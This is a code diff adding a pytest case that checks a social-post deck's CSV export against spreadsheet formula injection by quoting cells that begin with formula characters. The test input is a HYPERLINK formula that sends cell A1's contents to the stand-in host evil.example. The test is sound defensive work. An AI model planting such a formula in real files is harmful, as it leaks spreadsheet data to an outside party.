@@ -76,3 +76,21 @@ def test_export_errors_are_one_line(tmp_path: Path) -> None:
     assert result.output.startswith(f"Error: {empty / 'deck.yaml'}: cannot be read (")
     assert result.output.endswith("run 'postdeck build' first\n") and result.output.count("\n") == 1
     assert not (tmp_path / "x.csv").exists()
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_captions_and_alt_text_never_become_formulas(tmp_path: Path, start: str) -> None:
+    """OWASP CSV injection: a cell a spreadsheet would evaluate gets a leading single quote."""
+    evil = f'{start}HYPERLINK("https://evil.example/?"&A1,"click")'
+    post = Post(n=1, headline="H", quote="Q", body="B", alt_text=evil,
+                captions={"instagram": evil, "x": "-3 tips, +2 more"}, card="cards/post-1.png")
+    folder = tmp_path / "output" / "a"
+    folder.mkdir(parents=True)
+    (folder / "deck.yaml").write_text(dump_deck(Deck(title="T", source="posts/a.txt", slug="a", posts=(post,))))
+    target = tmp_path / "out.csv"
+    export_csv(folder, target)
+    ig, x = read_csv(target)
+    assert ig["caption"] == "'" + evil and ig["alt_text"] == "'" + evil
+    assert x["caption"] == "'-3 tips, +2 more"
+    for row in (ig, x):
+        assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in row.values())
